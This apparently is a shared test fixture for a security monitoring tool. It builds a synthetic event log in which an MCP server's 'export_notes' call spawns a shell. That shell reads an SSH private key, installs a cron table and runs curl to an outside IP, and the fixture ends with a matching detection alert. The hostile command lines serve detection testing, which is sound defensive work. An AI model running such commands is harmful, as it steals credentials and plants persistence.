"""A recorded attack chain shared by the storyline, priority and summary tests (no tests of its own).

A client (cursor) calls ``export_notes`` on server ``notes``; during the call the server's process spawns
``sh``, which runs ``cat`` on a private key and writes a cron table, and ``curl`` connects out. A second,
unrelated ``cat`` later reuses the first one's pid.
"""

from __future__ import annotations

from typing import Any

from garrison.detect import Alert
from garrison.model import Event, LogSource, Severity

T0 = 1_764_000_000.0
LINUX = "linux"


def proc(time: float, guid: str, parent: str | None, pid: int, ppid: int, image: str, cmd: str,
         *, user: str = "dev", server: str = "notes", event_id: str | None = None) -> Event:
    fields: dict[str, Any] = {"Image": image, "CommandLine": cmd, "ProcessId": pid, "ParentProcessId": ppid,
                              "ProcessGuid": guid, "User": user}
    links = {"process_guid": guid, "server": server}
    if parent:
        fields["ParentProcessGuid"] = parent
        links["parent_guid"] = parent
    return Event(time, LogSource(LINUX, "process_creation"), fields, source="garrison.sensors.process",
                 id=event_id or f"p-{guid}", links=links)


def file_event(time: float, guid: str, path: str, access: str = "open", event_id: str = "") -> Event:
    return Event(time, LogSource(LINUX, "file_access"),
                 {"TargetFilename": path, "Access": access, "ProcessGuid": guid, "Image": "/usr/bin/cat"},
                 source="garrison.sensors.files", id=event_id or f"f-{guid}-{path}",
                 links={"process_guid": guid, "server": "notes"})


def call(time: float, call_id: str, tool: str, latency_ms: float | None, *, server: str = "notes") -> Event:
    return Event(time, LogSource("mcp", "tool_call"),
                 {"server": server, "client": "cursor", "tool": tool, "method": "tools/call",
                  "latency_ms": latency_ms, "decision": "pass"},
                 source="garrison.wrap", id=f"c-{call_id}", links={"server": server, "call_id": call_id})


def chain() -> list[Event]:
    return [
        proc(T0, "{srv}", None, 100, 1, "/usr/bin/python3", "python3 -m notes_server"),
        call(T0 + 5, "1", "list_notes", 20.0),
        call(T0 + 10, "2", "export_notes", 2000.0),
        proc(T0 + 10.5, "{sh}", "{srv}", 200, 100, "/bin/sh", "sh -c 'cat ~/.ssh/id_rsa; crontab /tmp/j.txt'"),
        proc(T0 + 10.6, "{cat}", "{sh}", 201, 200, "/usr/bin/cat", "cat /home/dev/.ssh/id_rsa"),
        file_event(T0 + 10.7, "{cat}", "/home/dev/.ssh/id_rsa", event_id="key-read"),
        proc(T0 + 10.8, "{cron}", "{sh}", 202, 200, "/usr/bin/crontab", "crontab /tmp/j.txt"),
        proc(T0 + 11.0, "{curl}", "{sh}", 203, 200, "/usr/bin/curl", "curl https://93.184.216.34/x"),
        Event(T0 + 11.2, LogSource(LINUX, "network_connection"),
              {"DestinationIp": "93.184.216.34", "DestinationPort": 443, "ProcessGuid": "{curl}"},
              id="net-1", links={"process_guid": "{curl}", "server": "notes"}),
        call(T0 + 30, "3", "list_notes", 15.0),
        proc(T0 + 30.1, "{other}", "{srv}", 300, 100, "/usr/bin/ls", "ls /data"),
    ]


def key_alert(events: list[Event]) -> Alert:
    key_read = next(e for e in events if e.id == "key-read")
    return Alert("c29ede9b-dc86-4f01-b3dd-b20faafaf4ce", "SSH Private Key Opened by a Non-SSH Program",
                 Severity.HIGH, ("T1552.004",), ("credential-access",), (key_read,))
